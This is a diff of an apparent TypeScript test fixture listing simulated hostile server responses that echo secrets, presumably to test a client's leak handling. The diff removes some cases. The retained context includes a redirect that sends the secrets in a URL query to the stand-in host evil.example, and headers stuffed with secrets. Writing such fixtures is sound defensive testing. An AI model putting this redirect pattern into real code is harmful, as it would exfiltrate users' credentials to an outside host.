@@ -161,7 +161,6 @@ const PLACES: Readonly<Record<string, (echoed: string) => Reply>> = {
 
 /** Other hostile responses. */
 const OTHERS: Readonly<Record<string, Echo>> = {
-  'a page with 200': (secrets) => ({ body: `<html><p>${secrets.join('<br>')}</p></html>` }),
   'a redirect to a URL with the secrets': (secrets) => ({
     status: 302,
     headers: { location: `https://evil.example/?${secrets.map(encodeURIComponent).join('&')}` },
@@ -175,9 +174,6 @@ const OTHERS: Readonly<Record<string, Echo>> = {
     headers: { 'x-tt-logid': secrets.join(' '), 'retry-after': secrets.join(' ') },
     body: { error: { code: 'rate_limit_exceeded' } },
   }),
-  'a JSON string': (secrets) => ({ body: JSON.stringify(secrets.join(' ')) }),
-  'a JSON array': (secrets) => ({ body: JSON.stringify(secrets) }),
-  'truncated JSON': (secrets) => ({ body: `{"error":"${secrets.join(' ')}` }),
   'a token next to an error that names it': () => ({
     status: 400,
     body: { error: 'invalid_grant', error_description: `not ${FRESH_SECRET}`, access_token: FRESH_SECRET },
